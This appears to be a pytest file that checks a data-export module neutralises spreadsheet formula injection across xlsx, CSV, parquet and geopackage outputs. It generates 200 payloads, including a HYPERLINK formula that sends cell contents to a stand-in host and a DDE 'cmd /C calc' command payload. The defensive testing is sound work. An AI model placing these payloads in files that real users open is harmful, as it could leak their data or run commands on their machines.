"""Two hundred ways to bring a formula to life, in every kind of export: none lives."""

import csv
import io
import re
import shutil
import sqlite3
import subprocess
import zipfile

import polars as pl
import pytest
from defusedxml import ElementTree

from tests.unit.export_answers import AREA, HEALTH, NOTE, areas, released, table
from watchward.contract.result import Column
from watchward.contract.safe_result import SafeCell
from watchward.export.flow import export

STARTS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\t ")
BODIES = ('HYPERLINK("http://x.invalid/?"&A1,"x")', "1+cmd|' /C calc'!A0")
PAYLOADS = [f"{before}{start}{body}" for before in BEFORE for start in STARTS for body in BODIES]
LIVE = re.compile(r"^[\s\u00a0\u200b\ufeff]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]")
SHEET = re.compile(r"xl/worksheets/sheet\d+\.xml")


def hostile():
    """Every payload as an area, as a note, as a title of a column and of the table."""
    rows = [[SafeCell(one), SafeCell(one), SafeCell(-5)] for one in PAYLOADS]
    titled = [Column(f"n{i}", one, "note") for i, one in enumerate(PAYLOADS[:40])]
    wide = table(
        [AREA, *titled],
        [[SafeCell("SYN001"), *(SafeCell(one) for one in PAYLOADS[:40])]],
        name="=1+1'!A1",
        title=PAYLOADS[0],
    )
    long = table([AREA, NOTE, HEALTH], rows, title=PAYLOADS[-1])
    return released(
        long, wide, reasons=tuple(PAYLOADS), headline=PAYLOADS[0], areas=areas(PAYLOADS)
    )


def lines(path):
    return list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))


def live(words):
    return [word for word in words if isinstance(word, str) and LIVE.match(word) and word != "-5"]


def test_there_are_two_hundred():
    assert len(PAYLOADS) == 200


def test_no_formula_in_a_workbook_by_its_own_markup(tmp_path):
    path = export(hostile(), path=tmp_path / "a.xlsx").path
    with zipfile.ZipFile(path) as book:
        names = [name for name in book.namelist() if SHEET.fullmatch(name)]
        sheets = [ElementTree.fromstring(book.read(name)) for name in names]
        links = [name for name in book.namelist() if name.endswith(".rels")]
        outward = [name for name in links if b'TargetMode="External"' in book.read(name)]
    assert len(names) == 6
    assert not [node for sheet in sheets for node in sheet.iter() if node.tag.endswith("}f")]
    assert not live(node.text for sheet in sheets for node in sheet.iter() if node.text)
    assert not outward


@pytest.mark.slow
def test_no_formula_in_a_workbook_that_libreoffice_worked_out_again(tmp_path):
    office = shutil.which("soffice")
    if not office:
        pytest.skip("LibreOffice is not installed")
    path = export(hostile(), path=tmp_path / "a.xlsx").path
    turned = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = [office, profile, "--headless", "--convert-to", turned, "--outdir", str(tmp_path)]
    subprocess.run([*command, str(path)], check=True, capture_output=True, timeout=120)
    files = sorted(tmp_path.glob("*.csv"))
    assert len(files) == 6
    cells = [cell for file in files for row in lines(file) for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) >= 100
    assert not live(cells)
    assert not [cell for cell in cells if re.match(r"#(NAME|REF|VALUE)|Err:", cell)]


def test_no_formula_in_csv_parquet_or_a_geopackage(tmp_path):
    result = hostile()
    path = export(result, path=tmp_path / "a.csv", table="counts").path
    assert not live(cell for row in lines(path) for cell in row)
    frame = pl.read_parquet(export(result, path=tmp_path / "a.parquet", table="counts").path)
    assert not live(value for name in frame.columns for value in frame[name].to_list())
    assert frame["health"].to_list() == [-5] * len(PAYLOADS)
    path = export(result, path=tmp_path / "a.gpkg", table="counts").path
    base = sqlite3.connect(path)
    tables = [name for (name,) in base.execute("select name from sqlite_master where type='table'")]
    own = [n for n in tables if n in ("counts", "about_this_file", "gpkg_data_columns")]
    cells = [cell for n in own for row in base.execute(f"select * from {n}") for cell in row]
    base.close()
    assert len(own) == 3
    assert not live(cells)


def test_a_genuine_negative_number_is_still_a_number(tmp_path):
    path = export(hostile(), path=tmp_path / "a.csv", table="counts").path
    assert sum(row[2:3] == ["-5"] for row in lines(path)) == len(PAYLOADS)
